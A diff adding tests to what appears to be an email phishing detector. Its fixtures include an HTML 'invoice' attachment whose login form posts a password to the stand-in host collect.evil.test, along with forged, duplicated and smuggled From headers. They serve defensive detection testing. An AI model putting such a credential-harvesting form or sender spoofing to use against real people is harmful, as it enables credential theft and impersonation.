@@ -205,3 +205,36 @@ def test_a_from_address_without_a_real_domain_is_a_finding():
     single = run("sender", facts(from_=address("notice@correios", "Correios")))
     assert "from-without-domain" in codes(quoted)
     assert "from-without-domain" in codes(single)
+
+
+def test_an_html_attachment_with_a_login_form_is_high():
+    page = b"<form action='https://collect.evil.test/p'><input type=PASSWORD name=p></form>"
+    message = facts(
+        attachments=(attachment("invoice.html", page, true_type="text/html"),)
+    )
+    result = run("attachments", message)
+    form = next(f for f in result.findings if f.code == "credential-form")
+    assert form.severity is Severity.HIGH and "collect.evil.test" in form.summary
+
+
+def test_two_from_headers_are_a_finding():
+    message = facts(
+        headers=(("From", "a@attack.test"), ("From", "admin@legitimate.test"))
+    )
+    assert "several-from" in codes(run("sender", message))
+
+
+def test_a_display_name_holding_a_second_address_in_angles_counts_as_two_senders():
+    message = facts(
+        headers=(("From", '"Accounts <accounts@example.org>" <billing@x.test>'),)
+    )
+    assert "several-from" in codes(run("sender", message))
+
+
+def test_own_domain_without_authentication_is_a_spoof():
+    message = facts(
+        from_=address("ceo@example.org"),
+        authentication_results=(auth("spf=pass smtp.mailfrom=evil.test; dkim=none"),),
+    )
+    result = run("authentication", message, Lookups(org_domains=("example.org",)))
+    assert codes(result)["own-domain-spoof"] is Severity.HIGH
